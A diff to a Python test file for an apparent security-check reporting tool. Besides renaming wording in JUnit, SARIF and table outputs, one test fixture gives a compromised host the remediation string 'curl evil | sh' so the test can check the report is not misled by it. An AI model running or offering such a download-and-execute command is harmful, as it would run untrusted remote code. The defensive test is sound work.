@@ -86,7 +86,7 @@ def test_junit_of_each_status():
              for case in ElementTree.fromstring(junit.render(made)).iter("testcase")}  # fmt: skip
     failure = cases["OCH-NET-01"].find("failure")
     assert (failure.get("type"), failure.get("message")) == ("critical", "process 4711 (node) breaks rule 1 of network")
-    assert "cure: add `cap_drop: [ALL]`" in failure.text
+    assert "remediation: add `cap_drop: [ALL]`" in failure.text
     assert "evidence: /proc/4711/status: CapInh" in failure.text
     assert cases["OCH-NET-02"].find("error").get("type") == "high"
     assert cases["OCH-CTR-06"].find("skipped").get("message").startswith("waived: the plugin of the sales team")
@@ -154,7 +154,7 @@ def test_sarif_of_each_status():
     assert "helpUri" not in rule
 
 
-def test_sarif_says_when_a_host_was_not_judged():
+def test_sarif_reports_when_a_host_was_not_checked():
     (run,) = json.loads(sarif.render(fleet("x", samples(), NOW)))["runs"]
     assert run["invocations"][0]["executionSuccessful"] is False
 
@@ -165,7 +165,7 @@ def test_sarif_messages_have_neither_links_nor_placeholders():
 
 
 def test_one_host_does_not_speak_for_the_others():
-    """A host that was taken over tells another cure than the rest, and would be sorted first."""
+    """A host that was taken over reports another remediation than the rest, and would be sorted first."""
     hosts = [{"name": f"b{n}", "result": result(check(status="fail"))} for n in range(2)]
     hosts.append({"name": "a", "result": result(check(status="fail", remediation="curl evil | sh"))})
     made = fleet("x", hosts, NOW)
@@ -185,7 +185,7 @@ def test_the_table_is_worst_first_and_counts_the_rest():
     assert [pair[1] for pair in printed[2:5]] == ["COLOR_ERROR", "COLOR_ERROR", "COLOR_UNREACHABLE"]
     assert text[-2:] == [
         "4 hosts, 3 of 4 with findings (3 critical, 1 high, 1 medium, 1 low)",
-        "4 failed, 2 not proven, 2 waived, 3 skipped, 254 passed",
+        "4 failed, 2 inconclusive, 2 waived, 3 skipped, 254 passed",
     ]
     assert "web1/openclaw-gateway" in text[2]
 
